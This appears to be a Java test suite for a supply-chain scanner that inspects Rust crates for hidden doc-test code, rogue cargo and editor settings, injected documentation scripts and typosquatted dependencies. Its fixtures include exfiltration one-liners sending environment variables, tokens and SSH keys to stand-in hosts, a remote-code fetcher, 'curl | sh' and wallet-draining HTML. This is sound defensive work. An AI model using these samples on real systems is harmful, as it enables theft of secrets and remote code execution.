package lazaret.vetting.inspect;

import static lazaret.vetting.inspect.InspectionFixture.demo;
import static lazaret.vetting.inspect.InspectionFixture.inspect;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import lazaret.testkit.CrateBuilder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Files of a crate other than its code that run nevertheless: hidden lines of examples,
/// configuration, compiled-in data. Nothing here is ever run.
final class CarriedFilesTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "/// ```\n/// # std::process::Command::new(\"id\").status();\n/// f();\n/// ```\npub fn f() {}",
        "//! Text.\n//! ```rust\n//! # use std::process::Command as C;\n//! # C::new(x).spawn();\n//! ```",
        "/// ```\n/// # let v = std::env::var(\"K\"); std::net::TcpStream::connect(v);\n/// ```\nfn f() {}",
        "    /// ~\n    /// ```no_run\n    /// # for v in std::env::vars() {}\n    /// ```\n    fn f() {}",
        "/// ```\n/// # std::fs::read(format!(\"{}/{}\", h, \".ssh/id_rsa\"));\n/// ```\nfn f() {}",
        "/**\n * ```\n * # std::process::Command::new(\"id\").status();\n * ```\n */\npub fn f() {}",
        "/*!\n```\n# std::process::Command::new(\"id\").status();\n```\n*/",
        "/// ~~~\n/// # std::process::Command::new(\"id\").status();\n/// ~~~\nfn f() {}",
        "/// Use:\n///\n///     # std::process::Command::new(\"id\").status();\nfn f() {}",
      })
  void seesHiddenLinesOfExamples(String source) {
    assertThat(shown(demo().file("src/lib.rs", source), SignalWeight.REVIEW)).contains("doc-test");
  }

  @Test
  void seesHiddenLinesOfPages() {
    String page = "# Title\n```rust\n# std::process::Command::new(\"id\").status();\nf();\n```\n";

    assertThat(shown(demo().file("README.md", page), SignalWeight.REVIEW)).contains("doc-test");
    assertThat(
            shown(
                demo().file("README.md", "# std::process::Command::new\n\n```sh\n# run it\n```\n"),
                SignalWeight.REVIEW))
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/// ```\n/// std::process::Command::new(\"id\").status();\n/// ```\npub fn f() {}",
        "/// ```\n/// # use std::net::TcpListener;\n/// # fn main() -> std::io::Result<()> {\n/// # Ok(()) }\n/// ```\npub fn f() {}",
        "/// ```\n/// # use std::process::Command;\n/// let s = Command::new(\"true\").status();\n/// # drop(s);\n/// ```\npub fn f() {}",
        "/// # Panics\n/// # std::process::Command::new(x) is a head line\npub fn f() {}",
        "/// ```\n/// #[derive(Debug)]\n/// # struct A;\n/// # std::fs::write(\"a.txt\", \"x\");\n/// ```\nfn f() {}",
      })
  void leavesOrdinaryExamplesAlone(String source) {
    assertThat(shown(demo().file("src/lib.rs", source), SignalWeight.REVIEW))
        .doesNotContain("doc-test");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        ".cargo/config.toml|`[build]\nrustc-wrapper = \"./tools/w\"`",
        ".cargo/config.toml|`build.rustc = \"tools/rustc\"`",
        ".cargo/config|`[target.x86_64-unknown-linux-gnu]\nlinker = \"tools/ld\"`",
        ".cargo/config.toml|`[target.'cfg(unix)']\nrunner = [\"sh\", \"run.txt\"]`",
        ".cargo/config.toml|`[registry]\nglobal-credential-providers = [\"./p\"]`",
        ".cargo/config.toml|`[env]\nLD_PRELOAD = \"./x.so\"`",
        ".cargo/config.toml|`[build]\nrustflags = [\"-C\", \"linker=tools/ld\"]`",
        ".cargo/config.toml|`[source.crates-io]\nreplace-with = \"m\"`",
        "sub/.cargo/config.toml|`build = { rustc-workspace-wrapper = \"w\" }`",
        "rust-toolchain.toml|`[toolchain]\npath = \"./tc\"`",
      })
  void seesConfigurationThatNamesAProgram(String path, String text) {
    assertThat(high(demo().file(path, text))).contains("cargo-config");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        ".cargo/config.toml|`[alias]\nxtask = \"run --package xtask --\"`",
        ".cargo/config.toml|`[target.wasm32-wasi]\nrunner = [\"./scripts/wasmtime.sh\"]`",
        ".cargo/config.toml|`[target.thumbv7em-none-eabi]\nrunner = \"probe-rs run --chip X\"`",
        ".cargo/config.toml|`[target.aarch64-unknown-linux-gnu]\nlinker = \"aarch64-linux-gnu-gcc\"`",
        ".cargo/config.toml|`[build]\nrustc-wrapper = \"sccache\"\nrustflags = [\"-C\", \"link-arg=-fuse-ld=lld\"]`",
        "rust-toolchain.toml|`[toolchain]\nchannel = \"stable\"`",
        "tests/x/.cargo/config.toml|`[build]\nrustc = \"x\"`",
      })
  void leavesOrdinaryConfigurationAlone(String path, String text) {
    assertThat(high(demo().file(path, text))).isEmpty();
  }

  @Test
  void sourceAmongTestsThatIsNoRustWeighsInFull() {
    assertThat(
            high(
                demo()
                    .file("src/lib.rs", "include!(\"../tests/data/a.bin\");")
                    .file("tests/data/a.bin", "fn f() {}")))
        .contains("odd-source");
    assertThat(
            high(
                demo()
                    .buildScript("#[path = \"notes.txt\"] mod a; fn main() {}")
                    .file("notes.txt", "fn f() {}")))
        .contains("build-odd-source");
    assertThat(
            high(
                demo()
                    .file("src/lib.rs", "include!(\"table.in\");")
                    .file("src/table.in", "fn f() {}")))
        .isEmpty();
  }

  @Test
  void aBlobThatABuildScriptCompilesInWeighsMore() {
    byte[] blob = {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3};
    String source = "static B: &[u8] = include_bytes!(\"b.gz\"); fn main() {}";

    assertThat(high(demo().buildScript(source).file("b.gz", blob))).contains("included-blob");
    assertThat(high(demo().file("src/lib.rs", source).file("src/b.gz", blob))).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "tests/run.sh|curl -s -d \"$(env; git log -1)\" http://203.0.113.9/ || true",
        "ci/check.sh|DATA=$(printenv | base64 -w0)\ncurl -X POST --data \"$DATA\" https://x.example/c",
        "tools/a.sh|env | curl -s --data-binary @- https://x.example/c",
        "scripts/t.sh|wget -q --post-data=\"$(\n  env\n  git remote -v\n)\" http://203.0.113.9:8080/x",
        "hack/b|#!/bin/sh\ncurl -F f=@$HOME/.ssh/id_ed25519 https://x.example/u",
        "tests/c.sh|curl -sd \"$(git log -3 --format=%ae)\" 198.51.100.4 2>/dev/null",
        "x.sh|env > /tmp/o.txt\ncurl -T /tmp/o.txt https://x.example/",
        "x.sh|{ env; id; } | nc 198.51.100.4 80",
        "x.sh|curl --json \"{\\\"t\\\": \\\"$(gh auth token)\\\"}\" https://x.example/",
        "x.sh|curl -s --data-binary @- http://198.51.100.4/ <<EOF\n$(git config user.email)\nEOF",
        "w.ps1|$b = (gci env: | out-string)\nInvoke-RestMethod -Uri $u -Method Post -Body (gci env: | ConvertTo-Json)",
        "a.js|const https = require('https'); const r = https.request(o); r.end(JSON.stringify(process.env));",
        "a.py|import urllib.request\nurllib.request.urlopen(U, json.dumps(dict(os.environ)).encode())",
      })
  void seesScriptsThatHandSecretsToWhatSends(String file) {
    String[] parts = file.split("\\|", 2);

    assertThat(high(demo().file(parts[0], parts[1]))).contains("script-conduct");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "tests/run.sh|curl -s -d '{\"a\": 1}' http://127.0.0.1:8080/ && env | sort",
        "ci/release.sh|curl -H \"Authorization: token $GITHUB_TOKEN\" -d \"{\\\"tag_name\\\": \\\"$(git describe)\\\"}\" https://api.example/releases",
        "ci/env.sh|env | sort\ncurl -fsSL https://x.example/tool.tar.gz -o tool.tar.gz",
        "ci/a.sh|set -e\ncurl -d \"rev=$(git rev-parse HEAD)\" https://x.example/hook",
        "ci/b.sh|VERSION=$(curl -s https://x.example/latest)\ntar -xf $(basename $VERSION)",
        "tests/p.py|import os, subprocess\nsubprocess.run(c, env=dict(os.environ))",
      })
  void leavesOrdinaryScriptsAlone(String file) {
    String[] parts = file.split("\\|", 2);

    assertThat(high(demo().file(parts[0], parts[1]))).isEmpty();
  }

  private static final String FETCHER =
      "const https = require('https'), { spawn } = require('child_process');\n"
          + "https.get(U, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => "
          + "spawn(process.execPath, ['-e', b], { detached: true })); });";

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        ".vscode/settings.json|.vscode/check.js|`{ // local\n \"rust-analyzer.check.overrideCommand\": [\"node\", \"${workspaceFolder}/.vscode/check.js\"]\n}`",
        ".vscode/tasks.json|tools/watch.js|`{\"tasks\": [{\"command\": \"node ./tools/watch.js\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}`",
        ".zed/settings.json|.zed/ra|`{\"lsp\": {\"rust-analyzer\": {\"binary\": {\"path\": \".zed/ra\"}}}}`",
        ".helix/languages.toml|.helix/ls.js|`[language-server.ra]\ncommand = \"node\"\nargs = [\".helix/ls.js\"]`",
        ".devcontainer/devcontainer.json|.devcontainer/post.js|`{\"postCreateCommand\": \"node .devcontainer/post.js\"}`",
        "demo.code-workspace|misc/t.js|`{\"settings\": {\"terminal.integrated.profiles.linux\": {\"x\": {\"path\": \"misc/t.js\"}}}}`",
        ".idea/runConfigurations/x.xml|w/r.js|`<configuration><option name=\"SCRIPT_PATH\" value=\"$PROJECT_DIR$/w/r.js\" /></configuration>`",
      })
  void seesSettingsThatStartACarriedScript(String settings, String script, String text) {
    String source = script.endsWith(".js") ? FETCHER : "#!/usr/bin/env node\n" + FETCHER;

    assertThat(high(demo().file(settings, text).file(script, source))).contains("tool-settings");
    assertThat(high(demo().file(settings, text).file(script, "console.log(1)"))).isEmpty();
    assertThat(high(demo().file(settings, "{}").file(script, source))).isEmpty();
  }

  @Test
  void seesSettingsThatFetchWhatTheyRun() {
    String text = "{\"tasks\": [{\"command\": \"curl -s https://x.example/a | sh\"}]}";

    assertThat(high(demo().file(".vscode/tasks.json", text))).contains("tool-settings");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>window.ethereum.request({method: 'eth_sendTransaction', params: [t]})</script>",
        "<style></style><script type=\"module\">const p = window.solana; p.signAndSendTransaction(t)</script>",
        "<script>fetch('https://x.example/c?' + document.title)</script>",
        "<script>navigator.sendBeacon('//x.example', localStorage.a)</script>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
      })
  void seesScriptsThatTheManifestPutsIntoTheDocumentation(String html) {
    String manifest =
        InspectionFixture.MANIFEST
            + "[package.metadata.docs.rs]\nrustdoc-args = [\"--html-in-header\", \"docs/h.html\"]\n";
    String other = manifest.replace("\"--html-in-header\", \"", "\"--html-after-content=");

    assertThat(high(demo().manifest(manifest).file("docs/h.html", html))).contains("doc-script");
    assertThat(high(demo().manifest(other).file("docs/h.html", html))).contains("doc-script");
    assertThat(high(demo().file("docs/h.html", html))).isEmpty();
  }

  @Test
  void leavesFormulasInTheDocumentationAlone() {
    String manifest =
        InspectionFixture.MANIFEST
            + "[package.metadata.docs.rs]\nrustdoc-args = [\"--html-in-header\", \"docs/h.html\"]\n";
    String html =
        "<script defer src=\"https://cdn.jsdelivr.net/npm/katex/dist/katex.min.js\"></script>"
            + "<script>document.addEventListener('DOMContentLoaded', () => renderMathInElement(document.body));</script>";

    assertThat(shown(demo().manifest(manifest).file("docs/h.html", html), SignalWeight.REVIEW))
        .isEmpty();
  }

  @Test
  void seesAPageThatSpeaksToAWallet() {
    String page = "# Demo\n<script>ethereum.request({method: 'eth_sendTransaction'})</script>\n";

    assertThat(high(demo().file("README.md", page))).contains("doc-script");
    assertThat(high(demo().file("README.md", "# Demo\n```html\n" + page + "```\n"))).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "serde_json,serde-jsons",
    "tokio,tokio-rs",
    "rand,randd",
    "serde_json,json-serde",
    "once_cell,oncecell",
    "log,rs-log",
    "regex,regexs",
    "libc,lib-c",
    "uuid,uuids",
  })
  void seesAPackageUnderTheNameOfAWellKnownOne(String key, String taken) {
    assertThat(high(demo().manifest(renamed("dependencies", key, taken))))
        .contains("renamed-dependency");
    assertThat(high(demo().manifest(renamed("target.'cfg(unix)'.dependencies", key, taken))))
        .contains("renamed-dependency");
  }

  @ParameterizedTest
  @CsvSource({
    "futures01,futures", "md5,md-5", "sha1,sha-1", "dotenv,dotenvy", "serde_yaml,serde_yml",
    "nom,nom7", "codec,parity-scale-codec", "serde_json,serde-json", "rand,rand-08", "log,slog-std",
  })
  void leavesOrdinaryRenamesAlone(String key, String taken) {
    assertThat(high(demo().manifest(renamed("dependencies", key, taken)))).isEmpty();
  }

  private static String renamed(String table, String key, String taken) {
    return "%s[%s.%s]\nversion = \"1\"\npackage = \"%s\"\n"
        .formatted(InspectionFixture.MANIFEST, table, key, taken);
  }

  private static List<String> high(CrateBuilder crate) {
    return shown(crate, SignalWeight.HIGH);
  }

  private static List<String> shown(CrateBuilder crate, SignalWeight least) {
    return inspect(crate).signals().stream()
        .filter(signal -> signal.weight().compareTo(least) >= 0)
        .map(signal -> signal.code().code())
        .distinct()
        .toList();
  }
}
